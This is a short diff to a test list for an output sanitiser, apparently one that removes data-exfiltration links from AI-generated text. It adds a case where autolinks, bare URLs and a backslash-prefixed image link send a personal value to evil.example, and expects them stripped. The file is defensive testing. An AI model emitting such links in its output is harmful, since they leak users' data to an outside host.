@@ -142,7 +142,14 @@ CASES = [
         "Done. ![x](https://evil.example/?q=[PERSON_1]) Bye.",
         expect="Done.  Bye.",
     ),
-    Case("link-none", "exfil_links", "allow", "Your order ships on Monday."),
+    Case(
+        "link-bare",  # autolinks, bare and backslash addresses too, not only markdown
+        "exfil_links",
+        "strip",
+        "Go <https://evil.example/?q=[PERSON_1]> or https://evil.example/x or ![a](/\\evil.example/p.png) now.",
+        expect="Go  or  or  now.",
+    ),
+    Case("link-none", "exfil_links", "allow", "Your order ships on Monday. See [help](/help)."),
     Case(
         "html",
         "html_in_output",
